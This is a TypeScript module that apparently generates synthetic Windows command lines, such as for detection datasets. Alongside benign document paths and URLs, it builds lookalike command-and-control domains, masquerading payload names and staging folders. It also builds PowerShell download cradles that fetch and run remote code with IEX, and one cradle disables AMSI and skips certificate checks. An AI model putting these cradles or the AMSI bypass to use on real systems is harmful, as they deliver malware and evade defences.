/** Small vocabularies and string builders that give command lines their natural variety. */
import type { Rng } from './rng';

const DOC_TOPICS = [
  'Budget',
  'Invoice',
  'Report',
  'Minutes',
  'Proposal',
  'Contract',
  'Roadmap',
  'Timesheet',
  'Forecast',
  'Onboarding',
  'Inventory',
  'Pricing',
  'Audit',
  'Payroll',
  'Agenda',
  'Policy',
  'Benefits',
  'Quote',
];
const DOC_QUALIFIERS = [
  'Q1',
  'Q2',
  'Q3',
  'Q4',
  'FY26',
  'Jan',
  'Feb',
  'draft',
  'final',
  'v2',
  'v3',
  'EMEA',
  'NA',
  'review',
];

export function docName(rng: Rng, ext: string): string {
  const sep = rng.pick(['_', ' ', '-']);
  return `${rng.pick(DOC_TOPICS)}${sep}${rng.pick(DOC_QUALIFIERS)}${rng.chance(0.4) ? `${sep}${rng.int(2024, 2026)}` : ''}.${ext}`;
}

export function userDocPath(rng: Rng, profile: string, ext: string, company: string): string {
  const dir = rng.weightedPairs<string>([
    [`${profile}\\Documents`, 4],
    [`${profile}\\Downloads`, 3],
    [`${profile}\\Desktop`, 2],
    [`${profile}\\OneDrive - ${company}\\Documents`, 3],
    [`${profile}\\OneDrive - ${company}\\Shared`, 1],
  ]);
  return `${dir}\\${docName(rng, ext)}`;
}

/** Where Outlook saves an opened attachment: a random 8-character cache folder. */
export function outlookCachePath(rng: Rng, profile: string, file: string): string {
  return `${profile}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\${rng.chars(8, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789')}\\${file}`;
}

const SITES = [
  'https://www.office.com/',
  'https://outlook.office365.com/mail/',
  'https://teams.microsoft.com/',
  'https://www.google.com/search?q=',
  'https://github.com/',
  'https://stackoverflow.com/questions/',
  'https://learn.microsoft.com/en-us/',
  'https://www.linkedin.com/feed/',
  'https://news.ycombinator.com/',
  'https://www.bbc.co.uk/news',
  'https://docs.google.com/document/d/',
  'https://app.slack.com/client/',
];

export function url(rng: Rng): string {
  const s = rng.pick(SITES);
  return s.endsWith('/') || s.endsWith('=') ? `${s}${rng.chars(rng.int(6, 14))}` : s;
}

/** PowerShell -EncodedCommand payload: base64 of UTF-16LE text. */
export function encodePowerShell(script: string): string {
  return Buffer.from(script, 'utf16le').toString('base64');
}

export function q(path: string): string {
  return `"${path}"`;
}

export function randomVar(rng: Rng): string {
  return (
    rng.chars(1, 'abcdefghijklmnopqrstuvwxyz') +
    rng.chars(rng.int(2, 6), 'abcdefghijklmnopqrstuvwxyz0123456789')
  );
}

/** Attacker infrastructure: a mix of public-looking IPs and lookalike domains. */
export function c2Host(rng: Rng): string {
  if (rng.chance(0.55)) {
    return `${rng.pick([45, 91, 103, 141, 176, 185, 193, 194, 198, 203])}.${rng.int(1, 254)}.${rng.int(1, 254)}.${rng.int(1, 254)}`;
  }
  const word = rng.pick([
    'cdn',
    'update',
    'sync',
    'static',
    'api',
    'files',
    'login',
    'assets',
    'telemetry',
  ]);
  const brand = rng.pick([
    'msft-office',
    'office365-cdn',
    'onedrive-share',
    'azureedge-sync',
    'adobe-dl',
    'zoom-updates',
    'docusign-files',
  ]);
  return `${word}.${brand}.${rng.pick(['com', 'net', 'org', 'io', 'live', 'top'])}`;
}

export function c2Url(rng: Rng, ext: string): string {
  const port = rng.pick(['', '', ':8080', ':443', ':8443', ':8000', ':80']);
  const scheme = port === ':443' || port === ':8443' || rng.chance(0.3) ? 'https' : 'http';
  const path = rng.pick([
    '',
    'static/',
    'images/',
    'files/',
    'wp-content/uploads/',
    'download/',
    'news/',
  ]);
  return `${scheme}://${c2Host(rng)}${port}/${path}${rng.chars(rng.int(4, 10))}.${ext}`;
}

/** Payload file names chosen to blend in. */
export function payloadName(rng: Rng, ext: string): string {
  return `${rng.pick([
    'update',
    'svchost32',
    'OneDriveUpdater',
    'AdobeUpdate',
    'msedge_helper',
    'winlogbeat',
    'chrome_installer',
    'setup',
    'invoice',
    'taskhostsvc',
    'RuntimeBroker64',
    'wuaucltx',
    rng.chars(8),
  ])}.${ext}`;
}

export function stagingDir(rng: Rng, profile: string): string {
  return rng.pick([
    'C:\\Users\\Public',
    'C:\\ProgramData',
    `${profile}\\AppData\\Local\\Temp`,
    `${profile}\\AppData\\Roaming\\Microsoft`,
    'C:\\Windows\\Temp',
    `${profile}\\Downloads`,
    'C:\\PerfLogs',
  ]);
}

/** A PowerShell download cradle in one of several styles seen from commodity loaders. */
export function downloadCradle(rng: Rng, target: string): string {
  const v = randomVar(rng);
  const ua = rng.pick([
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64; Trident/7.0; rv:11.0) like Gecko',
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
  ]);
  switch (rng.int(0, 3)) {
    case 0:
      return `$${v}=New-Object System.Net.WebClient;$${v}.Headers.Add('User-Agent','${ua}');$${v}.Proxy=[System.Net.WebRequest]::DefaultWebProxy;$${v}.Proxy.Credentials=[System.Net.CredentialCache]::DefaultNetworkCredentials;IEX $${v}.DownloadString('${target}')`;
    case 1:
      return `IEX (New-Object Net.WebClient).DownloadString('${target}')`;
    case 2:
      return `[System.Net.ServicePointManager]::ServerCertificateValidationCallback={$true};$${v}=(Invoke-WebRequest -UseBasicParsing -Uri '${target}' -UserAgent '${ua}').Content;IEX $${v}`;
    default:
      return `If($PSVersionTable.PSVersion.Major -ge 3){$${v}=[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils');$${v}.GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)};[System.Net.ServicePointManager]::Expect100Continue=0;$wc=New-Object System.Net.WebClient;$wc.Headers.Add('User-Agent','${ua}');$wc.Headers.Add('Cookie','session=${rng.chars(28, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/')}');$data=$wc.DownloadData('${target}');$iv=$data[0..3];$data=$data[4..$data.length];-join[Char[]](& $R $data ($IV+$K))|IEX`;
  }
}

/**
 * Split a Windows command line into argv the way CommandLineToArgvW does for the common cases
 * (double quotes group, backslashes before a quote escape it).
 */
export function splitArgs(cmd: string): string[] {
  const out: string[] = [];
  let cur = '';
  let inQuotes = false;
  let has = false;
  for (let i = 0; i < cmd.length; i++) {
    const c = cmd[i];
    if (c === '\\') {
      let n = 0;
      while (cmd[i] === '\\') {
        n++;
        i++;
      }
      if (cmd[i] === '"') {
        cur += '\\'.repeat(Math.floor(n / 2));
        if (n % 2 === 1) cur += '"';
        else {
          inQuotes = !inQuotes;
        }
        has = true;
      } else {
        cur += '\\'.repeat(n);
        i--;
        has = true;
      }
    } else if (c === '"') {
      inQuotes = !inQuotes;
      has = true;
    } else if ((c === ' ' || c === '\t') && !inQuotes) {
      if (has) out.push(cur);
      cur = '';
      has = false;
    } else {
      cur += c;
      has = true;
    }
  }
  if (has) out.push(cur);
  return out;
}
